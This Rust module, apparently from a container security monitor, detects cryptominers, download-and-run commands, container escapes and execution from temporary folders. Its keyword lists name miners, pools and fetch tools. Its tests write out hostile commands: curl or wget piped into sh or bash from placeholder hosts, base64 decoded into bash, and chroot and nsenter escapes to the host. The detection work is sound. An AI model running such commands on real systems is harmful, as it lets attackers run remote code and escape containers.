//! What command lines give away: miners, fetching a program and running it, leaving the container for its host.

/// Programs that mine, by the name of their file: from the rules of the Sigma project (`proc_creation_lnx_crypto_mining`), the
/// reports on Kinsing, TeamTNT and WatchDog, and the miners' own repositories.
const MINERS: &[&str] = &[
    "xmrig",
    "xmr-stak",
    "xmr-stak-cpu",
    "xmrig-notls",
    "xmrigdaemon",
    "xmrigminer",
    "minerd",
    "cpuminer",
    "cpuminer-multi",
    "cpuminer-opt",
    "ccminer",
    "cgminer",
    "bfgminer",
    "sgminer",
    "nbminer",
    "ethminer",
    "phoenixminer",
    "lolminer",
    "gminer",
    "teamredminer",
    "nanominer",
    "srbminer",
    "srbminer-multi",
    "t-rex",
    "trex-miner",
    "claymore",
    "kinsing",
    "kdevtmpfsi",
    "xmr-node-proxy",
    "xmrcc",
    "hellminer",
    "verusminer",
    "rplant",
];
/// What only a miner's arguments hold: the protocol that pools speak, and xmrig's share for its authors.
const MINING_WORDS: &[&str] = &[
    "stratum+tcp://",
    "stratum+ssl://",
    "stratum+tls://",
    "stratum1+tcp://",
    "stratum2+tcp://",
    "stratum://",
    "--donate-level",
    "--donate-over-proxy",
    "--randomx-",
    "--nicehash",
    "--coin=monero",
    "--coin monero",
    "--algo=rx/",
    "-a rx/0",
    "--algo=cryptonight",
    "-a cryptonight",
    "--rig-id",
];
/// Pools' domains, each with what stands below it.
const POOLS: &[&str] = &[
    "minexmr.com",
    "supportxmr.com",
    "moneroocean.stream",
    "hashvault.pro",
    "nanopool.org",
    "c3pool.com",
    "c3pool.org",
    "2miners.com",
    "herominers.com",
    "xmrpool.eu",
    "monerohash.com",
    "minergate.com",
    "crypto-pool.fr",
    "dwarfpool.com",
    "nicehash.com",
    "skypool.org",
    "unmineable.com",
    "ethermine.org",
    "kryptex.network",
    "p2pool.io",
    "xmr.pt",
];
/// Programs whose arguments are what they look for, not what they run.
const SEARCHERS: &[&str] = &[
    "grep",
    "egrep",
    "fgrep",
    "zgrep",
    "rg",
    "pgrep",
    "pkill",
    "killall",
    "pidof",
    "ps",
    "find",
    "awk",
    "sed",
    "journalctl",
];
const FETCHERS: &[&str] = &[
    "curl",
    "wget",
    "wget2",
    "lwp-download",
    "aria2c",
    "tftp",
    "fetch",
    "wd1",
    "cd1",
    "cur",
    "wge",
];
const SHELLS: &[&str] = &[
    "sh", "bash", "ash", "dash", "zsh", "ksh", "python", "python2", "python3", "perl", "ruby",
    "php", "node",
];
/// Folders that everybody may write to and that a reboot or nobody looks after.
const TEMPORARY: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/"];

/// The words of a command, with what joins commands as words of their own.
fn words(command: &str) -> Vec<&str> {
    let mut words = Vec::new();
    for word in command.split_whitespace() {
        let mut rest = word.trim_matches(['"', '\'', '(', ')', '{', '}', '`', '[', ']', '$', '<']);
        while let Some(at) = rest.find(['|', ';', '&']) {
            let (before, after) = rest.split_at(at);
            if !before.is_empty() {
                words.push(before);
            }
            let joint = after.len() - after.trim_start_matches(['|', ';', '&']).len();
            words.push(after.get(..joint).unwrap_or_default());
            rest = after.get(joint..).unwrap_or_default();
        }
        if !rest.is_empty() {
            words.push(rest);
        }
    }
    words
}

/// The file's name of a word that is a path.
fn file_name(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or_default()
}

fn is_joint(word: &str) -> bool {
    word.starts_with(['|', ';', '&'])
}

/// What of a command is a miner's, as the command writes it.
pub(super) fn mining(command: &str) -> Option<String> {
    let lower = command.to_lowercase();
    let words = words(&lower);
    let searches = |at: usize| {
        let before = words
            .iter()
            .take(at)
            .rev()
            .take_while(|word| !is_joint(word));
        before
            .into_iter()
            .any(|word| SEARCHERS.contains(&file_name(word)))
    };
    for (at, word) in words.iter().enumerate() {
        let name = file_name(word).trim_end_matches(".exe");
        let is_option = word.starts_with('-');
        let miner = !is_option && (MINERS.contains(&name) || is_miner_version(name));
        let pool = POOLS.iter().any(|pool| names_host(word, pool));
        let url = MINING_WORDS
            .iter()
            .any(|known| !known.contains(' ') && word.contains(known));
        if (miner || pool || url) && !searches(at) {
            return Some((*word).to_owned());
        }
    }
    let phrase = MINING_WORDS
        .iter()
        .find(|known| known.contains(' ') && lower.contains(*known));
    phrase.map(|phrase| (*phrase).to_owned())
}

/// `xmrig-6.21.0`, `xmrig2`.
fn is_miner_version(name: &str) -> bool {
    let rest = name
        .strip_prefix("xmrig")
        .or_else(|| name.strip_prefix("xmr-stak"));
    rest.is_some_and(|rest| {
        rest.trim_start_matches(['-', '_', 'v'])
            .starts_with(|first: char| first.is_ascii_digit())
    })
}

/// Whether a word (a URL, `host:port`) names this host or one below it.
fn names_host(word: &str, domain: &str) -> bool {
    let value = word.rsplit_once('=').map_or(word, |(_, value)| value);
    let host = value.rsplit("://").next().unwrap_or(value);
    let host = host.split(['/', ':', '?']).next().unwrap_or(host);
    host == domain
        || host
            .strip_suffix(domain)
            .is_some_and(|below| below.ends_with('.'))
}

/// Whether a command fetches a program from a network and runs it.
pub(super) fn downloads_and_runs(command: &str) -> bool {
    let words = words(command);
    let fetches = |word: &&str| FETCHERS.contains(&file_name(word));
    let Some(at) = words.iter().position(fetches) else {
        return decodes_and_runs(&words);
    };
    let from_network = words
        .iter()
        .skip(at)
        .any(|word| word.contains("://") || word.contains('.'));
    let after: Vec<&str> = words.iter().skip(at + 1).copied().collect();
    let mut piped = after
        .windows(2)
        .filter(|pair| matches!(pair, [joint, _] if is_joint(joint)));
    let into_shell = piped.any(|pair| matches!(pair, [_, next] if is_shell(next)));
    let made_executable = after.iter().zip(after.iter().skip(1)).any(|(word, mode)| {
        *word == "chmod" && (mode.contains("+x") || mode.starts_with('7') || mode.starts_with("07"))
    });
    // bash -c "$(curl ...)", sh <(wget ...), eval "$(curl ...)"
    let substituted = command.contains("$(curl")
        || command.contains("$(wget")
        || command.contains("<(curl")
        || command.contains("<(wget")
        || command.contains("`curl")
        || command.contains("`wget");
    from_network && (into_shell || made_executable || substituted)
}

fn is_shell(word: &str) -> bool {
    SHELLS.contains(&file_name(word)) || word == "sudo"
}

/// `echo ... | base64 -d | sh`.
fn decodes_and_runs(words: &[&str]) -> bool {
    let decodes = words
        .iter()
        .position(|word| matches!(file_name(word), "base64" | "base32" | "xxd" | "openssl"));
    decodes.is_some_and(|at| {
        let mut after = words.iter().skip(at).zip(words.iter().skip(at + 1));
        after.any(|(joint, next)| {
            joint.starts_with('|') && matches!(file_name(next), "sh" | "bash" | "ash" | "dash")
        })
    })
}

/// Whether a command leaves the container for its host: `chroot` into a mounted root, or `nsenter` of the host's first process.
pub(super) fn escapes(command: &str, root_mounts: &[&str]) -> bool {
    let words = words(command);
    let after = |program: &str| {
        let at = words.iter().position(|word| file_name(word) == program)?;
        Some(words.iter().skip(at + 1).copied().collect::<Vec<&str>>())
    };
    let into_root = after("chroot").is_some_and(|rest| {
        let target = rest.iter().find(|word| !word.starts_with('-'));
        target.is_some_and(|target| root_mounts.contains(&target.trim_end_matches('/')))
    });
    let of_first = after("nsenter").is_some_and(|rest| {
        let target = rest
            .windows(2)
            .any(|pair| matches!(pair, ["-t" | "--target", "1"]));
        target
            || rest
                .iter()
                .any(|word| matches!(*word, "-t1" | "--target=1"))
    });
    into_root || of_first
}

/// Whether a command runs a file in a folder for temporary files: the path stands where a program does.
pub(super) fn runs_temporary(command: &str) -> bool {
    let words = words(command);
    let temporary = |word: &str| TEMPORARY.iter().any(|folder| word.starts_with(folder));
    words.iter().enumerate().any(|(at, word)| {
        let before = at.checked_sub(1).and_then(|at| words.get(at)).copied();
        let starts = before.is_none_or(|before| {
            is_joint(before)
                || is_shell(before)
                || matches!(before, "nohup" | "exec" | "-c" | "setsid")
        });
        temporary(word) && starts
    })
}

/// Files with a script's ending that a command runs, by name.
pub(super) fn scripts(command: &str) -> Vec<&str> {
    let names = words(command).into_iter().map(file_name);
    names
        .filter(|name| name.len() > 3 && name.ends_with(".sh"))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn miners_are_told_from_those_who_look_for_them() {
        let check = |command: &str, expected: bool| {
            assert_eq!(mining(command).is_some(), expected, "{command}")
        };
        check(
            "/bin/mac -o stratum+tcp://203.0.113.77:5555 -u x -p x",
            true,
        );
        check("./xmrig -c config.json", true);
        check("/opt/xmrig-6.21.0 --background", true);
        check("sh -c 'cd /x && ./minerd -a y'", true);
        check("./d -o pool.supportxmr.com:443", true);
        check("/app/run --url=stratum+ssl://x:1", true);
        check("sh -c 'ps aux | grep xmrig'", false);
        check("pkill -f kinsing", false);
        check("python3 train.py --workers 4", false);
        check("/bin/exporter --collector.xmrig", false);
        check("curl https://blog.example/supportxmr.com.html", false);
        check("sh /mac.sh", false);
    }

    #[test]
    fn fetching_and_running() {
        let check = |command: &str, expected: bool| {
            assert_eq!(downloads_and_runs(command), expected, "{command}")
        };
        check(
            "chroot /mnt /bin/sh -c curl -fsSL http://203.0.113.150/d/a.sh | sh",
            true,
        );
        check("sh -c 'wget -qO- http://x.example/i.sh|bash'", true);
        check("bash -c \"$(curl -fsSL https://x.example/i)\"", true);
        check(
            "sh -c 'curl -o /tmp/a http://1.2.3.4/a; chmod +x /tmp/a; /tmp/a'",
            true,
        );
        check("sh -c 'echo aGk= | base64 -d | bash'", true);
        check("curl -f http://localhost:8080/health || exit 1", false);
        check(
            "wget -O /data/file.tgz https://mirror.example/file.tgz",
            false,
        );
        check("sh -c 'curl -s http://api.example/x | jq .name'", false);
        check("python -m http.server", false);
    }

    #[test]
    fn leaving_for_the_host() {
        assert!(escapes("chroot /mnt /bin/sh -c id", &["/mnt"]));
        assert!(!escapes("chroot /newroot /bin/sh", &["/mnt"]));
        assert!(escapes("nsenter -t 1 -m -u sh", &[]));
        assert!(escapes("nsenter --target=1 --mount bash", &[]));
        assert!(!escapes("nsenter -t 4711 -n ip a", &[]));
    }

    #[test]
    fn temporary_programs() {
        let check = |command: &str, expected: bool| {
            assert_eq!(runs_temporary(command), expected, "{command}")
        };
        check("/tmp/.x/kworker", true);
        check("sh -c 'cd / && /dev/shm/a'", true);
        check("sh /tmp/run.sh", true);
        check("java -Djava.io.tmpdir=/tmp/ -jar a.jar", false);
        check("app --cache /tmp/cache", false);
    }

    #[test]
    fn scripts_of_a_command() {
        assert_eq!(scripts("sh /mac.sh"), ["mac.sh"]);
        assert!(scripts("/bin/sh -c sleep").is_empty());
    }
}
